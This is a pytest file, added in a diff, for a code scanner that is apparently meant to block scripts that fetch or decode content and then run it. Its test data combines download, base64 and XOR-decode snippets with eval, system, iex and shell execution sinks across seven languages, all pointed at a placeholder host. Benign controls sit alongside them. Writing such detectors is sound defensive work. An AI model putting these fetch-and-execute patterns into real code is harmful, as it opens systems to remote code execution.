@@ -1,0 +1,71 @@
+"""What programs in Ruby, PHP, Perl, Lua, Go, Rust and PowerShell fetch or decode, and run."""
+
+from __future__ import annotations
+
+import itertools
+
+import pytest
+
+from metier.govern.scan import scan_text
+
+AT = "https://cdn.palette-core.net/curve"
+GOT = {
+    "rb": [f"URI.open('{AT}').read", "Base64.decode64(File.read('x.dat'))", "File.binread('x').bytes.map { |b| (b ^ 9).chr }.join"],
+    "php": [f"file_get_contents('{AT}')", "base64_decode(file_get_contents('x.dat'))", "gzinflate(base64_decode($blob))"],
+    "pl": [f"get('{AT}')", "decode_base64(join '', <STDIN>)", "pack('H*', $hex)"],
+    "lua": [f"http.request('{AT}')", f"io.popen('curl -s {AT}'):read('*a')"],
+    "go": [
+        f'r, _ := http.Get("{AT}")\n\tb, _ := io.ReadAll(r.Body)',
+        'raw, _ := os.ReadFile("x.dat")\n\tb, _ := base64.StdEncoding.DecodeString(string(raw))',
+    ],
+    "rs": [f'let b = reqwest::blocking::get("{AT}").unwrap().text().unwrap();', "let b = base64::decode(read()).unwrap();"],
+    "ps1": [
+        f"(irm {AT})",
+        "[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String((Get-Content x.dat -Raw)))",
+        "(-join ([IO.File]::ReadAllBytes('x.bin') | % { [char]($_ -bxor 23) }))",
+    ],
+}  # fmt: skip
+RUN = {
+    "rb": ["eval(G)", "d = G\nsystem(d)", "File.write('/tmp/x.sh', G)\nsystem('bash /tmp/x.sh')", "def grab\n  G\nend\neval(grab)", "d = G\n`#{d}`"],
+    "php": ["eval(G);", "$d = G;\nsystem($d);", "file_put_contents('/tmp/x.php', G);\ninclude '/tmp/x.php';", "function grab() { return G; }\neval(grab());"],
+    "pl": ["eval(G);", "my $d = G;\nsystem($d);", "my $d = G;\nopen(my $p, '|-', 'sh');\nprint $p $d;"],
+    "lua": ["load(G)()", "local d = G\nos.execute(d)", "local f = io.open('/tmp/x.sh', 'w')\nf:write(G)\nf:close()\nos.execute('sh /tmp/x.sh')"],
+    "go": [
+        '\tG\n\texec.Command("sh", "-c", string(b)).Run()\n}',
+        '\tG\n\tos.WriteFile("/tmp/x", b, 0755)\n\texec.Command("/tmp/x").Start()\n}',
+        '\tG\n\tcmd := string(b)\n\texec.Command("sh", "-c", cmd).Run()\n}',
+    ],
+    "rs": ['    G\n    Command::new("sh").arg("-c").arg(&b).spawn();\n}', '    G\n    std::fs::write("/tmp/x.sh", &b);\n    Command::new("sh").arg("/tmp/x.sh").spawn();\n}'],
+    "ps1": ["iex G", "$x = G\niex $x", "G | iex", "& ([scriptblock]::Create(G))", "Set-Content $env:TEMP\\x.ps1 G\npowershell -File $env:TEMP\\x.ps1"],
+}  # fmt: skip
+HEAD = {
+    "php": "<?php\n",
+    "rb": "require 'open-uri'\n",
+    "pl": "use LWP::Simple;\n",
+    "go": "package main\nfunc main() {\n",
+    "rs": "fn main() {\n",
+}
+CASES = [(ending, got, run) for ending in GOT for got, run in itertools.product(GOT[ending], RUN[ending])]
+
+
+@pytest.mark.parametrize(("ending", "got", "run"), CASES)
+def test_what_is_fetched_or_decoded_and_run_is_blocked(ending: str, got: str, run: str) -> None:
+    text = HEAD.get(ending, "") + run.replace("G", got) + "\n"
+    assert scan_text(text, f"a.{ending}").decision.value == "block"
+
+
+HONEST = {
+    "a.rb": "data = Base64.decode64(answer['image'])\nFile.binwrite('out.png', data)\nsystem('open', 'out.png')\nname = URI.open('https://api.weather.gov/alerts').read\nputs JSON.parse(name)\n",
+    "b.rb": "load 'tasks/build.rake'\nsystem('bundle', 'exec', 'rspec')\nkey = Base64.strict_decode64(ENV['KEY_B64'])\nFile.write('key.pem', key)\n",
+    "a.php": "<?php\n$data = json_decode(file_get_contents('https://api.weather.gov/alerts'));\nexec('convert in.png out.png');\n$image = base64_decode($row['image']);\nfile_put_contents('out.png', $image);\n",
+    "a.pl": "use LWP::Simple;\nmy $page = get('https://www.perl.org/');\nprint length $page;\nsystem('make', 'test');\n",
+    "a.lua": "local body = http.request('https://api.weather.gov/alerts')\nprint(body)\nos.execute('mkdir -p out')\n",
+    "a.go": 'package main\nfunc main() {\n\tr, _ := http.Get("https://api.weather.gov/alerts")\n\tb, _ := io.ReadAll(r.Body)\n\tfmt.Println(string(b))\n\texec.Command("git", "status").Run()\n}\n',
+    "a.rs": 'fn main() {\n    let b = reqwest::blocking::get("https://api.weather.gov/alerts").unwrap().text().unwrap();\n    println!("{b}");\n    Command::new("cargo").arg("build").status();\n}\n',
+    "a.ps1": "$alerts = irm https://api.weather.gov/alerts\n$alerts | ConvertTo-Json\n$bytes = [Convert]::FromBase64String($env:CERT_B64)\n[IO.File]::WriteAllBytes('cert.pfx', $bytes)\n& .\\build.ps1\n",
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("name", HONEST)
+def test_what_honest_programs_fetch_or_decode_is_not_said_to_be_run(name: str) -> None:
+    assert not [one for one in scan_text(HONEST[name], name).findings if one.rule.startswith("run-")]
